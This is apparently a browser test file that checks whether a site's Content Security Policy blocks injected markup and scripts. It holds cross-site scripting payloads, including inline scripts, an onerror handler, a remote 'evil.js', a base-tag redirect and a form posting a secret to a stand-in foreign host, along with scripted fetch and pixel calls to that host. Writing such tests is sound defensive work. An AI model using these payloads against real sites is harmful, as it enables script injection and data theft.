import { expect, test } from 'vitest';
import { problemsOf, rewriting, usePages } from './fixture.ts';

// What a hole in the site would let an attacker try, on a page that is shown. None of it may come to anything.
const FOREIGN = 'https://elsewhere.example';
const pages = usePages('fixture');

/** Markup as it would come with a page into which somebody wrote. */
const INJECTED = [
  '<script>window.injected = true</script>',
  `<script src="${FOREIGN}/evil.js"></script>`,
  '<img src="/no-such-picture.png" alt="" onerror="window.injected = true">',
  '<p id="styled" style="color: rgb(1, 2, 3)">A paragraph</p>',
  '<style>#styled { background: rgb(4, 5, 6) }</style>',
  `<base href="${FOREIGN}/">`,
  `<iframe src="${FOREIGN}/frame"></iframe><object data="${FOREIGN}/object"></object>`,
  `<img src="${FOREIGN}/picture.png" alt="">`,
  `<form id="form" action="${FOREIGN}/collect" method="post"><input name="secret" value="1"></form>`,
].join('');

/** Opens a page, with such markup where one is given, that notes which directives were
 *  violated, and which requests leave the site. */
async function openPage(path: string, markup = '') {
  const foreign: string[] = [];
  const page = await pages.open(path, {
    prepare: async (page) => {
      await rewriting((html) => html.replace('<main', () => `${markup}<main`))(page);
      // What the policy blocks never gets as far as this.
      await page.route(`${FOREIGN}/**`, (route) => {
        foreign.push(route.request().url());
        return route.abort();
      });
      await page.addInitScript(() => {
        const seen: string[] = [];
        Object.assign(window, { violated: seen });
        addEventListener('securitypolicyviolation', ({ effectiveDirective }) => seen.push(effectiveDirective));
      });
    },
  });
  const violated = () =>
    page.evaluate(() => [...new Set((window as unknown as { violated: string[] }).violated)].sort());
  return { page, violated, foreign };
}

test('markup that somebody wrote into a page runs, styles, loads, redirects and sends nothing', async () => {
  const { page, violated, foreign } = await openPage('/contact/', INJECTED);
  expect(await page.evaluate(() => 'injected' in window)).toBe(false);
  const [color, ground] = await page.locator('#styled').evaluate((element) => {
    const style = getComputedStyle(element);
    return [style.color, style.backgroundColor];
  });
  expect(color).not.toBe('rgb(1, 2, 3)');
  expect(ground).not.toBe('rgb(4, 5, 6)');
  expect(new URL(await page.evaluate(() => document.baseURI)).origin).toBe(pages.origin);
  // What the other tests rely on: each violation is among the problems of a page.
  for (const violation of ['script-src-elem by inline', `img-src by ${FOREIGN}`, 'style-src-attr by inline']) {
    expect((await problemsOf(page)).join('\n')).toContain(`policy violated: ${violation}`);
  }
  expect(await violated()).toEqual(
    expect.arrayContaining([
      ...['base-uri', 'frame-src', 'object-src'],
      ...['script-src-attr', 'script-src-elem', 'style-src-attr', 'style-src-elem'],
    ]),
  );
  const before = page.url();
  await page.evaluate(() => document.querySelector<HTMLFormElement>('#form')!.submit());
  await expect.poll(violated).toContain('form-action');
  expect(page.url()).toBe(before);
  expect(foreign).toEqual([]);
});

test('a script that runs all the same can run no text, write no markup, and reach nobody', async () => {
  const { page, violated, foreign } = await openPage('/');
  for (const attempt of [
    () => (document.body.innerHTML = '<img src=x>'),
    () => (document.createElement('script').text = 'window.injected = true'),
    () => (window as unknown as Types).trustedTypes.createPolicy('mine', {}),
  ]) {
    await expect(page.evaluate(attempt as () => void)).rejects.toThrow(/TrustedHTML|TrustedScript|Policy|unsafe-eval/);
  }
  // What Playwright evaluates itself is exempt; what comes later is not.
  const error = await page.evaluate(
    () =>
      new Promise((resolve) => {
        addEventListener('error', ({ message }) => resolve(message));
        setTimeout(() => new Function('window.injected = true')());
      }),
  );
  expect(error).toContain('EvalError');
  expect(await page.evaluate(() => 'injected' in window)).toBe(false);
  // It may not even ask the site itself.
  for (const address of [`${FOREIGN}/collect`, '/']) {
    const sent = page.evaluate((to) => fetch(to, { method: 'POST' }).then(String), address);
    await expect(sent).rejects.toThrow('Failed to fetch');
  }
  await page.evaluate((host) => {
    new Image().src = `${host}/pixel.gif`;
    document.fonts.add(new FontFace('Foreign', `url(${host}/font.woff2)`));
    void document.fonts.load('16px Foreign').catch(() => {});
  }, FOREIGN);
  await expect.poll(violated).toEqual(expect.arrayContaining(['connect-src', 'font-src', 'img-src']));
  expect(foreign).toEqual([]);
});

interface Types {
  trustedTypes: { createPolicy(name: string, rules: object): unknown };
}
